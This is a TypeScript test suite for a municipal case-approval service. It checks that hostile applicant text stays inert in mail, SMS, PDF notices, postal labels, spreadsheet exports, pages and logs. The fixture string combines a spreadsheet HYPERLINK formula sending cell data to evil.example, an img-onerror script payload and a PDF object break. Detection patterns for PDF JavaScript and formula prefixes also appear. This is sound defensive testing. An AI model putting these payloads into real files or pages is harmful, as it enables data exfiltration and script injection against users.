import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, suite, test } from 'node:test'
import { readSheet } from '#hubs/data/sheet'
import { makeLog } from '#kernel/log'
import { simulateGateway } from '../../hubs/application/message/gateway-simulator.ts'
import { simulateMailServer } from '../../hubs/application/message/mail-simulator.ts'
import { printable } from '../../hubs/application/paper/plain-text.ts'
import { cellsOf, neutral } from '../../hubs/data/sheet/csv.ts'
import { openBrowser } from '../harness/browser.ts'
import { browsing, testSessions } from '../harness/citizen.ts'
import { exporting } from '../harness/exporting.ts'
import { openingOf, openTestGate, type TestGate } from '../harness/gate.ts'
import { hostileItem } from '../harness/hostile-item.ts'
import { readerIn } from '../harness/hostile-reader.ts'
import { heldEntries, mark } from '../harness/hostile-texts.ts'
import { readPdf, verifyPdf } from '../harness/pdf.ts'

const organ = '210102-approval-bureau'
const post = `acceptance@${organ}`
/** A word of the item that a spreadsheet would reckon, a page would carry out and a paper would break on. */
const word = `=HYPERLINK("http://evil.example/?"&A1)<img src=x onerror="window.${mark}=1">)>> endobj`
/** 消息用语 Number and organ, in both languages, and no word that anybody typed. */
const toldOf = (number: string): readonly string[] => [
  `和平区行政审批局：您的办件${number}有事要您办，请登录“我的”查看。`,
  `Your case ${number} waits for you. Sign in to read it.`,
]
/** Those a paper may break on; paper.test.ts prints each of them. */
const onPaper = /paper|terminal|lines|writing|nothing|rare|piled|alike|script|formula$|comment|header/
const contact = { mail: 'someone@people.example', phone: '13800000001', post: '' }

/** Signs that move a terminal, break a line or turn the writing round. */
const speaks = /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}\p{Cs}]/u

interface Lived {
  readonly what: string
  /** The name of the firm, in its register too; what the officer wrote to it. */
  readonly text: string
  readonly firm: string
  readonly number: string
  /** Where letters go, if the city took it. */
  readonly address: string | undefined
}

const lines: string[] = []
const lived: Lived[] = []
const folder = mkdtempSync(join(tmpdir(), 'plumbline-ways-out-'))
let gate: TestGate
let window: string
let mail: Awaited<ReturnType<typeof simulateMailServer>>
let gateway: Awaited<ReturnType<typeof simulateGateway>>

/** One who is called so has an application on file, and is asked for more in the same words. */
async function live(what: string, text: string): Promise<Lived> {
  const firm = await gate.house.firm(text)
  const sign = (more: object) =>
    browsing(gate, firm).send('/mine/consents', { ...contact, electronic: '1', key: randomUUID(), ...more })
  const address = `沈阳市和平区${text}`
  const taken = (await sign({ post: address })).status === 303
  if (!taken) assert.equal((await sign({})).status, 303, what)
  const opened = await gate.ask('/api/cases', { token: window, body: openingOf(firm) })
  assert.equal(opened.statusCode, 201, `${what}: ${opened.body}`)
  const { number } = opened.json()
  const body = { materials: ['report'], note: text }
  const asked = await gate.ask(`/api/cases/${number}/acts/requestSupplement`, { token: window, body })
  assert.equal(asked.statusCode, 200, `${what}: ${asked.body}`)
  return { what, text, firm, number, address: taken ? address : undefined }
}

before(async () => {
  mail = await simulateMailServer()
  gateway = await simulateGateway()
  const messages = {
    mail: { server: `smtp://${mail.host}:${mail.port}`, from: 'notice@city.example' },
    sms: { url: gateway.url },
    post: { folder },
  }
  const log = makeLog({ logLevel: 'info' }, { write: (line: string) => void lines.push(line) })
  gate = await openTestGate({ sessions: testSessions, settings: { messages }, log })
  window = await gate.officer(post)
  const { saying, publish } = await hostileItem(gate.house)
  await publish(saying(word, word))
  for (const [what, text] of heldEntries) lived.push(await live(what, text))
})
after(async () => {
  await gate?.close()
  await mail?.close()
  await gateway?.close()
  rmSync(folder, { recursive: true, force: true })
})

/** Whoever is to be told is told, by every carrier. */
async function relay(): Promise<void> {
  const { sequencer, subscriptions, jobs, messages } = gate.house.city
  await sequencer.drain()
  while ((await subscriptions.runOnce()) > 0);
  await jobs.runOnce(['tell-parties'])
  await messages.sendDue()
}

suite('敌意文字 on every way out of a running house: a name, a file, a note, an address, an item', () => {
  test('邮件、短信 a mail and a message each say the number and the organ, and nothing that anybody typed', async () => {
    await relay()
    assert.deepEqual(new Set(mail.left.map(({ to }) => to)), new Set([contact.mail]))
    const numbers = new Set<string>()
    for (const { raw } of mail.left) {
      const [head = '', body = ''] = raw.split('\r\n\r\n')
      const names = head.split('\r\n').flatMap(line => (line.startsWith(' ') ? [] : [line.split(':')[0]]))
      assert.deepEqual(
        names.join(),
        'Date,From,To,Subject,Message-ID,Auto-Submitted,MIME-Version,Content-Type,Content-Transfer-Encoding',
      )
      assert.ok(raw.split('\r\n').every(line => /^[\x20-\x7e]{0,78}$/.test(line)))
      const pieces = [...head.matchAll(/=\?UTF-8\?B\?([A-Za-z0-9+/=]*)\?=/g)].map(([, one]) =>
        Buffer.from(one!, 'base64'),
      )
      const [, number = ''] = /^办件(\d+)有新消息$/.exec(Buffer.concat(pieces).toString()) ?? []
      assert.equal(Buffer.from(body, 'base64').toString(), toldOf(number).join('\r\n'))
      numbers.add(number)
    }
    for (const { what, number } of lived) {
      assert.ok(numbers.has(number), `${what}: no mail`)
      const own = gateway.left.filter(({ text }) => text.includes(number))
      assert.deepEqual(
        own.map(({ to, text }) => [to, text]),
        [[contact.phone, toldOf(number).join(' ')]],
        what,
      )
    }
  })

  test('文书、信函 the notice is printed as it reads, or refused for a sign it cannot print; its letter has one line of address', async () => {
    const refused: string[] = []
    let posted = 0
    for (const { what, text, number, address } of lived.filter(one => onPaper.test(one.what))) {
      const { items } = (await gate.ask(`/api/cases/${number}/papers`, { token: window })).json()
      const { paper } = items.find((one: { kind: string }) => one.kind === 'supplement')
      const printed = await gate.ask(`/api/cases/${number}/papers/${paper}`, {
        token: window,
        headers: { accept: '*/*' },
      })
      if (printed.statusCode === 422) {
        assert.equal(printed.json().code, 'PAPER_GLYPH_MISSING', what)
        refused.push(what)
        continue
      }
      const { text: read, raw } = readPdf(printed.rawPayload)
      const flat = read.replaceAll(/^— \d+ —$|\s/gm, '')
      for (const said of [text, word])
        for (const line of printable(said).split('\n'))
          assert.ok(flat.includes(line.replaceAll(/\s/g, '')), `${what}: ${line}`)
      const bare = raw.replaceAll(/<\?xpacket begin[\s\S]*?<\?xpacket end/g, '').replaceAll(/\((?:\\.|[^\\)])*\)/g, '')
      assert.doesNotMatch(bare, /\/JS\b|\/JavaScript|\/OpenAction|\/Launch/, what)
      assert.ok(verifyPdf(printed.rawPayload).valid, what)
      if (address === undefined) continue
      const sent = await gate.ask(`/api/cases/${number}/deliveries`, { token: window, body: { paper } })
      assert.equal(sent.statusCode, 200, `${what}: ${sent.body}`)
      posted++
    }
    assert.ok(refused.length <= 5, refused.join())
    await relay()
    const names = readdirSync(join(folder, 'out')).filter(name => name.endsWith('.json'))
    assert.ok(posted > 4 && names.length === posted, `${names.length} letters of ${posted}`)
    const addresses = new Set(lived.map(({ address }) => address))
    for (const name of names) {
      assert.match(name, /^[0-9a-f-]{36}\.json$/)
      const label = JSON.parse(readFileSync(join(folder, 'out', name), 'utf8'))
      assert.deepEqual(Object.keys(label), ['id', 'to', 'subject', 'paper'])
      assert.ok(addresses.has(label.to) && !speaks.test(label.to), label.to)
      assert.match(label.subject, /^办件\d+的文书$/)
      assert.equal(label.paper, name.replace('json', 'pdf'))
    }
  })

  test('表格 a list of cases that leaves the house, and the sheet one fills in, hold text and nothing to be reckoned', async () => {
    const office = exporting(gate)
    const { id } = await office.asked(
      { columns: ['name', 'item', 'number'], ground: { case: lived[0]!.number, declared: '沈政办〔2026〕5号' } },
      post,
    )
    await office.work()
    const bytes = await office.file(id, post)
    assert.doesNotMatch(office.textOf(bytes), new RegExp(`<(?:f|script|img|${mark}-x)\\b|\\bt="(?:str|e)"`))
    const { rows } = await readSheet(bytes)
    const cells = rows.flatMap(row => row.cells)
    for (const cell of cells) assert.doesNotMatch(cell, /^[\s\0]*[=+\-@＝＋－＠]/)
    for (const { what, text } of lived)
      if (!/[\p{Cc}\p{Cn}]/u.test(text)) assert.ok(cells.includes(neutral(text)), `${what}: ${neutral(text)}`)

    const visitor = browsing(gate, await gate.house.firm('=1+1'))
    const { answer } = await visitor.get(`/apply/energy-review/batch/template?organ=${organ}`)
    const [headings = []] = cellsOf(answer.body.replace('\ufeff', ''))
    assert.ok(
      headings.some(one => one.includes(word)),
      headings.join(),
    )
    for (const one of headings) assert.doesNotMatch(one, /^[\s\0]*[=+\-@＝＋－＠]/)
  })

  test('页面 the pages of all of it hold text where text was written', async () => {
    const browser = await openBrowser()
    const harmless = await readerIn(browser)
    for (const { what, firm, number } of lived) {
      const visitor = browsing(gate, firm)
      const answers = []
      for (const path of [`/mine/cases/${number}`, '/mine/consents'])
        answers.push({ path, ...(await visitor.get(path)) })
      await harmless(what, answers)
    }
    await browser.close()
  })

  test('日志 each line of the log is one line, moves no terminal, and names nobody and nothing that was written', async () => {
    const visitor = browsing(gate, lived[0]!.firm)
    const begun = await visitor.send('/apply/energy-review', { organ, key: randomUUID() })
    const to = begun.to.replace(/\/fit$/, '/materials/report')
    for (const [what, text] of heldEntries) {
      const said = encodeURIComponent(text)
      const sent = await visitor.upload(to, { name: text, bytes: Buffer.from(text) })
      assert.ok(sent.status === 400 || sent.status === 422, `${what}: ${sent.status}`)
      await gate.ask(`/api/cases/${said}?code=${said}`, { token: window, headers: { 'user-agent': said } })
    }
    assert.ok(lines.length > 3 * lived.length, `${lines.length} lines`)
    for (const line of lines) {
      assert.ok(!speaks.test(line.replace(/\n$/, '')), line)
      const { level } = JSON.parse(line)
      assert.ok(level === 'info' || level === 'warn', line)
    }
    const all = lines.join('')
    for (const { what, text } of lived)
      if (text.length > 8) assert.ok(!all.includes(JSON.stringify(text).slice(1, -1)), `${what} is in the log`)
    for (const said of [mark, 'evil.example', '和平区行政', contact.phone, contact.mail])
      assert.ok(!all.includes(said), said)
  })
})
